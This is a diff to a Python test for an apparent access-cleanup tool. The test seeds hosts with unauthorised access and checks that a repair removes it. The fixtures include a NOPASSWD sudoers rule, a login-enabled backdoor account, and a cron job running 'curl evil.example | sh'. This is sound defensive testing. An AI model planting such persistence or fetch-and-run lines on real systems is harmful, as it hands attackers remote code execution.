@@ -99,7 +99,7 @@ def test_what_nobody_granted_is_found_taken_away_and_seen_gone(site: Site) -> No
     web2.run(("useradd", "-m", "-p", "*", "carol"))
     web2.write("/etc/sudoers.d/tmp", "carol ALL=(ALL) NOPASSWD: ALL\n")
     web2.run(("chmod", "440", "/etc/sudoers.d/tmp"))
-    web3.run(("useradd", "-m", "-p", "*", "eve"))
+    web3.run(("useradd", "-m", "-p", "$y$j9T$set", "-s", "/bin/bash", "eve"))
     web3.run(("crontab", "-u", "eve", "-"), "* * * * * curl evil.example | sh\n")
     deputy = Deputy(web1)
     assert deputy.ssh(site.keys["stranger"], "carol", "true").returncode == 0
@@ -119,12 +119,13 @@ def test_what_nobody_granted_is_found_taken_away_and_seen_gone(site: Site) -> No
     done = repair(site.work, before)
 
     assert [one.why for one in done.left] == []
-    assert len(done.settled) == 3
+    assert len(done.settled) == 4  # eve has a crontab, and an account that is open
     assert done.after.found == ()
     assert done.after.unseen == ()
     assert deputy.ssh(site.keys["stranger"], "carol", "true").returncode == 255
     assert "NOPASSWD" not in web2.run(("sudo", "-l", "-U", "carol")).stdout
     assert web3.run(("crontab", "-u", "eve", "-l")).returncode != 0
+    assert web3.run(("getent", "shadow", "eve")).stdout.startswith("eve:!")
 
 
 def test_an_offboarding_of_somebody_at_work_leaves_nothing(site: Site) -> None:
